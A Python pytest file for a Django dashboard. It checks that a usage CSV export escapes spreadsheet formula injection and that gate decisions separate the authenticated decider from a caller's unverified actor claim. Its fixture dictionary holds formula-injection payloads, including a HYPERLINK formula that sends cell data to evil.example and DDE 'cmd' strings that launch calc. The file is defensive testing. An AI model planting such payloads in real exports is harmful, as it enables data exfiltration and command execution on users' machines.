"""The usage CSV cannot smuggle spreadsheet formulas and writes costs as plain numbers; the run
page and the inbox say who decided a gate from the authenticated ``decided_by``, and show the
caller's free-text ``actor`` only as a labelled claim."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from dashboard.templatetags.dashboard import principal
from dashboard.views.usage import csv_cell
from tests.dashboard.conftest import make_run
from tidebase_core.models import Gate, UsageRecord
from tidebase_core.services.usage import usage_rollups_rebuild

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1+1": "'\tTAB=1+1",
    "\rCR=1+1": "'\rCR=1+1",
    "triage-bot": "triage-bot",
}


def _export(client: Client) -> list[dict[str, str]]:
    response = client.get(reverse("dashboard:usage"), {"days": "7", "format": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_usage_csv__formula_cells_are_neutralized(clients: dict[str, Client]) -> None:
    for workflow in HOSTILE:
        run = make_run(workflow=workflow, usage=0, extras=False, gate=None)
        UsageRecord.objects.create(
            run=run, provider="=1+1", model="@gpt", input_tokens=10, output_tokens=5, cost_usd=Decimal("0.0125")
        )
    usage_rollups_rebuild()
    rows = _export(clients["viewer"])
    assert sorted(r["workflow"] for r in rows) == sorted(HOSTILE.values())
    assert {r["provider"] for r in rows} == {"'=1+1"}
    assert {r["model"] for r in rows} == {"'@gpt"}
    assert {r["cost_usd"] for r in rows} == {"0.0125"}


def test_usage_csv__costs_are_plain_fixed_point(clients: dict[str, Client]) -> None:
    for workflow, cost in [("free", "0"), ("cheap", "0.0000000001"), ("pricey", "1200"), ("cents", "0.50")]:
        run = make_run(workflow=workflow, usage=0, extras=False, gate=None)
        UsageRecord.objects.create(run=run, provider="p", model="m", input_tokens=1, cost_usd=Decimal(cost))
    usage_rollups_rebuild()
    costs = {r["workflow"]: r["cost_usd"] for r in _export(clients["viewer"])}
    assert costs == {"free": "0", "cheap": "0.0000000001", "pricey": "1200", "cents": "0.5"}


def test_csv_cell() -> None:
    assert csv_cell(Decimal("0E-10")) == "0"
    assert csv_cell(Decimal("1E+3")) == "1000"
    assert csv_cell(Decimal("-0.0100")) == "-0.01"  # a number, not text: left as it is
    assert csv_cell(-5) == -5
    assert csv_cell(None) == ""
    assert csv_cell("2026-01-02") == "2026-01-02"
    for raw, safe in HOSTILE.items():
        assert csv_cell(raw) == safe


def _decided_gate(*, actor: str | None, decided_by: str | None) -> Gate:
    run = make_run(gate=None, extras=False, usage=0)
    return Gate.objects.create(
        run=run,
        name="ship-it",
        prompt="Ship?",
        status="approved",
        decision="approved",
        actor=actor,
        decided_by=decided_by,
        resolved_at=timezone.now(),
    )


def _page(client: Client, gate: Gate, where: str) -> str:
    url = reverse("dashboard:run", args=[gate.run_id]) if where == "run" else reverse("dashboard:inbox")
    response = client.get(url)
    assert response.status_code == 200
    return response.content.decode()


@pytest.mark.parametrize("where", ["run", "inbox"])
def test_gate__decided_by_is_the_authenticated_principal_and_actor_only_a_claim(
    clients: dict[str, Client], where: str
) -> None:
    gate = _decided_gate(actor="Jane Doe, CEO", decided_by="key:triage-bot")
    html = _page(clients["viewer"], gate, where)
    assert '<span class="decided-by" title="decidedBy: key:triage-bot">API key triage-bot</span>' in html
    assert "actor (claimed by the caller, not verified): Jane Doe, CEO" in html
    assert html.count("Jane Doe, CEO") == 1  # nowhere as the one who decided


@pytest.mark.parametrize("where", ["run", "inbox"])
def test_gate__dashboard_decision_shows_the_user_once(clients: dict[str, Client], where: str) -> None:
    gate = _decided_gate(actor="alice", decided_by="user:alice")
    html = _page(clients["viewer"], gate, where)
    assert '<span class="decided-by" title="decidedBy: user:alice">alice</span>' in html
    assert "claimed by the caller" not in html


def test_gate__decided_before_decided_by_existed(clients: dict[str, Client]) -> None:
    gate = _decided_gate(actor="bob", decided_by=None)
    html = _page(clients["viewer"], gate, "run")
    assert ">unknown</span>" in html
    assert "actor (claimed by the caller, not verified): bob" in html


def test_principal_labels() -> None:
    assert principal("user:alice") == "alice"
    assert principal("key:ci-bot") == "API key ci-bot"
    assert principal("token:resolve-token") == "resolve-token link"
    assert principal("api-key:env") == "TIDEBASE_API_KEY"
    assert principal("anonymous") == "anonymous API caller (open API)"
    assert principal("reconciler") == "timeout"
    assert principal(None) == "—"
    assert principal("something:new") == "something:new"
